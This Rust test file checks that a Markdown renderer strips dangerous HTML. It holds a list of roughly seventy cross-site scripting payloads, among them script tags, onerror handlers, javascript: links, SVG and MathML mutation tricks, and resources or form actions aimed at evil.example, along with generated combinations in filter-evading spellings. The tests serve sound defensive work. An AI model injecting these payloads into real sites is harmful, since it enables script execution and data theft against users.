use proptest::prelude::*;
use scraper::{Html, Node};

use super::*;

/// One of each class of attack on a Markdown renderer; our own wording.
const PAYLOADS: &[&str] = &[
    // Raw elements that run or load.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "</p><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=//evil.example/x.mp3 autoplay>",
    "<body onload=alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>body{background:url(//evil.example/x)}</style>",
    "<div style='background:url(//evil.example/x)'>x</div>",
    "<p style=position:fixed;inset:0>x</p>",
    "<form action=//evil.example><input name=x><button>x</button></form>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=javascript:alert(1)>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><img src=x onerror=alert(1)>",
    "<p id=document name=cookie>x</p>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    // Links and images.
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](\u{1}javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/x)",
    "[x](/relative \"t\")",
    "[x](tauri://localhost/x)",
    "[x](blob:https://x/1)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[x](https://a.example \"' onmouseover='alert(1)\")",
    "[x](https://a.example/\"onmouseover=\"alert(1))",
    "<javascript:alert(1)>",
    "<https://a.example/<script>>",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](y)",
    "[![x](//evil.example/x.png)](javascript:alert(1))",
    // Shapes of Markdown that carry attributes.
    "# x {onclick=alert(1) #id .class}",
    "```\"><script>alert(1)</script>\nx\n```",
    "```x onmouseover=alert(1)\nx\n```",
    "| a |\n|:-:|\n| <img src=x onerror=alert(1)> |",
    "`<script>alert(1)</script>`",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
];

/// Puts a payload where it would stand in a real page.
const CONTEXTS: &[fn(&str) -> String] = &[
    |payload| payload.to_owned(),
    |payload| format!("Some words {payload} and more."),
    |payload| format!("> {}", payload.replace('\n', "\n> ")),
    |payload| format!("- one\n- {}\n- three", payload.replace('\n', "\n  ")),
    |payload| {
        format!(
            "| a | b |\n|---|---|\n| {} | x |",
            payload.replace('\n', " ")
        )
    },
    |payload| format!("[words {payload}](https://a.example)"),
    |payload| format!("**bold {payload}\n\n<div>\n{payload}\n</div>\n\nend**"),
];

const TAGS: &[&str] = &[
    "p",
    "br",
    "hr",
    "h3",
    "h4",
    "h5",
    "h6",
    "strong",
    "em",
    "del",
    "code",
    "pre",
    "blockquote",
    "ul",
    "ol",
    "li",
    "a",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
];

/// Gives what a browser could act on, by a parser as browsers have one.
fn dangers(html: &str) -> Vec<String> {
    let mut found = Vec::new();
    for node in Html::parse_fragment(html).tree.nodes() {
        match node.value() {
            Node::Comment(_) | Node::ProcessingInstruction(_) | Node::Doctype(_) => {
                found.push("a comment or instruction".to_owned());
            }
            Node::Element(element) => {
                // The parser itself puts these two round a fragment.
                let wrapper = matches!(element.name(), "html" | "body");
                if !wrapper && !TAGS.contains(&element.name()) {
                    found.push(format!("<{}>", element.name()));
                }
                for (name, value) in element.attrs() {
                    let safe = match name {
                        "href" => ["http://", "https://", "mailto:"]
                            .iter()
                            .any(|scheme| value.to_lowercase().starts_with(scheme)),
                        "rel" => value == "noopener noreferrer",
                        "start" => value.parse::<u32>().is_ok(),
                        _ => false,
                    };
                    if !safe {
                        found.push(format!("{name}={value}"));
                    }
                }
            }
            _ => {}
        }
    }
    found
}

#[test]
fn no_payload_is_dangerous_in_any_context() {
    let mut dangerous = Vec::new();
    for payload in PAYLOADS {
        for context in CONTEXTS {
            let page = context(payload);
            let html = render(&page);
            for danger in dangers(html.as_str()) {
                dangerous.push(format!("{danger} from {page:?}"));
            }
        }
    }
    assert!(PAYLOADS.len() >= 60);
    assert!(dangerous.is_empty(), "{dangerous:#?}");
}

/// Elements that run, load or send something, or that change how a parser reads what follows.
const ELEMENTS: &[&str] = &[
    "a", "audio", "base", "body", "button", "details", "embed", "form", "frameset", "iframe",
    "img", "input", "link", "math", "meta", "noscript", "object", "portal", "script", "select",
    "style", "svg", "template", "textarea", "title", "video", "x-own",
];
/// What makes them act.
const ACTS: &[&str] = &[
    "onload=",
    "onerror=",
    "ONCLICK=",
    "onfocus\t=",
    "on\u{0}toggle=",
    "onanimationstart=",
    "style=background:",
    "src=",
    "href=",
    "xlink:href=",
    "action=",
    "formaction=",
    "srcdoc=",
    "srcset=",
    "data=",
    "http-equiv=refresh content=0;url=",
];
/// What they would do, in the spellings that filters miss.
const DEEDS: &[&str] = &[
    "alert(1)",
    "\"alert(1)\"",
    "'javascript:alert(1)'",
    "java&#9;script:alert(1)",
    "&#x6A;avascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    "`x`onerror=alert(1)",
    "//evil.example/x",
    "data:text/html,<script>alert(1)</script>",
];
/// How the tag is written.
const SHAPES: &[fn(&str, &str) -> String] = &[
    |element, act| format!("<{element} {act}>"),
    |element, act| format!("<{element}/{act}/>"),
    |element, act| format!("<{element}\n{act}\n>words</{element}>"),
    |element, act| format!("</{element}><{element} x=\"><\" {act}"),
];

#[test]
fn nor_is_any_of_thousands_put_together_of_their_parts() {
    let mut count = 0;
    for (at, element) in ELEMENTS.iter().enumerate() {
        for (turn, act) in ACTS.iter().enumerate() {
            for (step, deed) in DEEDS.iter().enumerate() {
                for (shape, write) in SHAPES.iter().enumerate() {
                    // Each payload in one context, in turn: every pair of parts meets every context.
                    let context = CONTEXTS[(at + turn + step + shape) % CONTEXTS.len()];
                    let page = context(&write(element, &format!("{act}{deed}")));
                    let found = dangers(render(&page).as_str());
                    assert!(found.is_empty(), "{found:?} from {page:?}");
                    count += 1;
                }
            }
        }
    }
    assert!(count > 15_000, "{count}");
}

#[test]
fn the_oracle_sees_what_plain_rendering_lets_through() {
    let dangerous = PAYLOADS
        .iter()
        .filter(|payload| {
            let mut html = String::new();
            pulldown_cmark::html::push_html(&mut html, pulldown_cmark::Parser::new(payload));
            !dangers(&html).is_empty()
        })
        .count();
    assert!(dangerous > PAYLOADS.len() / 2, "{dangerous}");
}

#[test]
fn a_page_reads_as_it_was_written() {
    let page = "# Monday\n\nI **did** it, *twice*.\nSecond line.\n\n3. three\n4. four\n   - deep\n\n\
                > kind words\n\n[a page](https://a.example/x?a=1&b=2) and [mail](mailto:a@b.example)\n\n\
                | a | b |\n|:--|--:|\n| 1 | 2 |\n\n![a photo](x.png)\n\n<b>not bold</b>\n\n`code` ~~gone~~\n\n---\n";
    insta::assert_snapshot!(render(page).as_str());
    insta::assert_snapshot!(plain_text(page));
    insta::assert_debug_snapshot!(blocks(page));
}

#[test]
fn words_that_look_like_markup_come_back_as_typed() {
    for words in [
        "1. not a list",
        "- dash",
        "+ plus",
        "# hash",
        "> more",
        "*stars*",
        "_under_",
        "`tick`",
        "a | b",
        "[x](y)",
        "<b>x</b>",
        "&amp; & co",
        "---",
        "===",
        "~~~",
        "5) five",
        "x^2 $3 \\ y",
        "![no](x)",
        "http://a.example/_x_",
        "12.",
        "  spaced  ",
    ] {
        assert_eq!(
            plain_text(&escape_markdown(words)),
            words.trim(),
            "{words:?}"
        );
    }
    assert_eq!(
        plain_text(&escape_markdown("one\n- two\n\n# three")),
        "one\n- two\n# three"
    );
    assert_eq!(
        plain_text(&format!("- {}", escape_markdown("one\ntwo"))),
        "one\ntwo"
    );
}

proptest! {
    #[test]
    fn any_line_comes_back_from_its_escaped_form(line in "[ -~éøλ]{1,60}") {
        prop_assert_eq!(plain_text(&escape_markdown(&line)), line.trim());
    }

    #[test]
    fn any_text_renders_without_danger(text in "[-<>&\"'()\\[\\]!#*_`~|:/a-z0-9 \\n]{0,200}") {
        let html = render(&text);
        prop_assert!(dangers(html.as_str()).is_empty(), "{}", html);
        let _ = blocks(&text);
        let _ = plain_text(&text);
    }
}
